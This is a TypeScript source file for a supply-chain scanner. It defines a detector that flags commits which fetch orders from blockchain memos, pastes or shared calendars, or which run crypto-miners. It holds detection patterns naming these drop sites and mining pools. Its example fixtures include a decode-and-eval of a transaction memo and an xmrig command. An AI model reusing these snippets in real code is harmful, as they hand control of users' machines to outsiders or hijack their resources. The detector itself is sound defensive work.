import { z } from "zod";
import { defineDetector, type Signal } from "../../model/detector.ts";
import { aChange } from "../../model/examples.ts";
import { addedSinks } from "../../text/added-sinks.ts";
import { DECODES, runsTextIn, STARTS_PROCESS } from "../../text/calls.ts";
import { visible } from "../../text/lines.ts";
import { newCode, newText } from "../../text/new-lines.ts";
import { isIdle, placeOf } from "../../text/places.ts";
import { isRawTextHost, kindOfUrl, urlsIn } from "../../text/url.ts";

const RUN = ["ev", "al"].join("");

/** Asks a block chain for text that somebody wrote into a transaction. */
const CHAIN =
  /\bgetSignaturesForAddress\b|\bgetTransaction\b[^\n]{0,200}\bmemo\b|\beth_getTransactionByHash\b|\bapi\.trongrid\.io\/v1\/accounts\b|\bfullnode\.mainnet\.aptoslabs\.com\/v1\/accounts\b|\bapi\.(?:bscscan|etherscan)\.\w{2,3}\/api\?module=account|\bbsc-dataseed\d?\b|\bapi\.mainnet-beta\.solana\.com\b|\bblockstream\.info\/api\/address\b|\bgateway\.ipfs\.io\/ipfs\b/;
/** Mining for somebody else's account. */
const MINING =
  /\bstratum\+(?:tcp|ssl):\/\/|\bxmrig\b|\bcoinhive\b|\bcryptonight\b|\bminexmr\b|\bsupportxmr\b|\bnanopool\.org\b|\bmoneroocean\b/i;
/** Places where anybody can leave a text under a name that stays. */
const DROPS =
  /\bcalendar\.app\.google\b|\bcalendar\.google\.com\/calendar\/(?:ical|embed)|\btelegra\.ph\b|\bt\.me\/s\/|\bsteamcommunity\.com\/(?:id|profiles)\/|\bdocs\.google\.com\/document\/d\/|\bgist\.githubusercontent\.com\b|\bpastebin\.com\/raw\b|\brentry\.co\/[\w-]{2,40}\/raw\b/;

export default defineDetector({
  id: "dead-drop-c2",
  title: "Orders are fetched from a place that anybody can write to",
  family: "content",
  axis: "attack",
  group: "payload",
  stage: "stable",
  since: "0.1.0",
  rationale:
    "Malware that must live long asks a place nobody can close – a block chain, a calendar, a paste – for its next address or program. A file that fetches such a text, decodes it and runs something is a remote control.",
  falsePositives: [
    "Wallets, explorers and other programs for block chains",
    "Programs that read a configuration from a gist of their own",
  ],
  remedy:
    "Treat every machine that ran it as controlled by somebody else. Revert, rotate, and look for the same code elsewhere.",
  references: [
    "ATT&CK T1102.001 Dead Drop Resolver",
    "ATT&CK T1496 Resource Hijacking",
    "GlassWorm 2025",
    "ForceMemo 2026",
  ],
  needs: ["diff", "content"],
  options: z.strictObject({}),
  examples: {
    flags: [
      {
        name: "a transaction's memo decoded and run",
        commit: aChange(
          "lib/a.js",
          `const s = await rpc("getSignaturesForAddress", [address]);\n${RUN}(atob(s[0].memo));`,
        ),
      },
      {
        name: "a miner",
        commit: aChange("scripts/run.sh", "./xmrig -o stratum+tcp://pool.example:3333 -u wallet"),
      },
    ],
    passes: [
      {
        name: "a wallet that lists transactions",
        commit: aChange("src/wallet.ts", "const signatures = await connection.getSignaturesForAddress(address);"),
      },
      {
        name: "a list of mining software to block",
        commit: aChange("docs/blocklist.md", "- xmrig\n- stratum+tcp://"),
      },
    ],
  },
  detect(commit) {
    return commit.files.flatMap((file): Signal[] => {
      const place = placeOf(file.path);
      if (file.facts.workflow) return []; // workflows have a family of their own
      if (isIdle(place) || place === "test") return [];
      const lines = newCode(commit, file);
      const text = newText(commit, file).slice(0, 200_000);
      if (!CHAIN.test(text) && !DROPS.test(text) && !MINING.test(text) && !text.includes("://")) return [];
      const runs = runsTextIn(file.path).test(text) || addedSinks(commit, file).some(({ kind }) => kind === "eval");
      const acts = runs || STARTS_PROCESS.test(text);
      const chain = lines.find((line) => CHAIN.test(visible(line)));
      const drop = lines.find(
        (line) => DROPS.test(visible(line)) || urlsIn(visible(line)).some((url) => kindOfUrl(url) === "paste"),
      );
      const base = { path: file.path };
      const found: Signal[] = [];
      if (chain && acts) {
        const strong = runs && DECODES.test(text);
        found.push({
          ...base,
          strength: strong ? "strong" : "medium",
          confidence: strong ? 1 : 0.7,
          because: `it asks a block chain for text${strong ? ", decodes it" : ""} and runs something`,
          line: chain.number,
        });
      }
      if (drop && runs) {
        const strong = urlsIn(visible(drop)).some((url) => isRawTextHost(url)) && place !== "script";
        found.push({
          ...base,
          strength: strong ? "strong" : "medium",
          confidence: 0.9,
          because: "it fetches text that anybody can leave there, and runs text as code",
          line: drop.number,
        });
      }
      const mining = lines.find((line) => MINING.test(visible(line)));
      if (mining) {
        const sure = /stratum\+|\bxmrig\b[^\n]{0,200}\s-[ou]\s/i.test(visible(mining)) && place !== "code";
        found.push({
          ...base,
          strength: sure ? "strong" : "weak",
          confidence: sure ? 1 : 0.8,
          because: "it mines a currency or names a miner",
          line: mining.number,
        });
      }
      return found;
    });
  },
});
